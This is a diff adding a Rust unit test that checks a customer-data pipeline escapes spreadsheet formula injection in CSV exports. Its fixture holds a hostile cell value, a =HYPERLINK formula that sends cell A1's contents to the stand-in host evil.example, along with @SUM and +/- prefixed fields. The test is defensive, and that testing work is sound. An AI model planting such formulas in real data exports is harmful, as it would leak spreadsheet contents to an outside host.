@@ -3959,3 +3959,33 @@ fn a_contact_whose_rows_give_a_customers_mobile_is_that_customer() {
     }
     assert_off_lists(&out, &["C-2", "CRM-8", "2222222"]);
 }
+
+#[test]
+fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let sales = four_buyers(dir.path());
+    // Job titles and cities typed into a web form.
+    let crm = ingest_csv(
+        dir.path(),
+        crate::schema::Dataset::Customers,
+        "crm.csv",
+        "Customer ID,Job Title,City\n\
+         C-1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",@SUM(1+1)\n\
+         C-2,+CEO,-Tehran\n\
+         C-3,CEO,Tehran\n",
+    );
+    let out = segment_curated(dir.path(), [sales, crm].concat());
+    let customers = by_id(read_csv(&out.join("customers.csv")));
+    let cells = |id: &str| [customers[id]["job_title"].as_str(), customers[id]["main_city"].as_str()];
+    assert_eq!(
+        cells("C-1"),
+        ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'@SUM(1+1)"]
+    );
+    assert_eq!(cells("C-2"), ["'+CEO", "'-Tehran"]);
+    assert_eq!(cells("C-3"), ["CEO", "Tehran"]);
+    // The Parquet file, for machines, keeps the text as it was.
+    use arrow::array::AsArray;
+    let batch = read_parquet(&out.join("customers.parquet"));
+    let titles = batch.column_by_name("job_title").unwrap().as_string::<i32>();
+    assert!(titles.iter().any(|t| t == Some("+CEO")));
+}
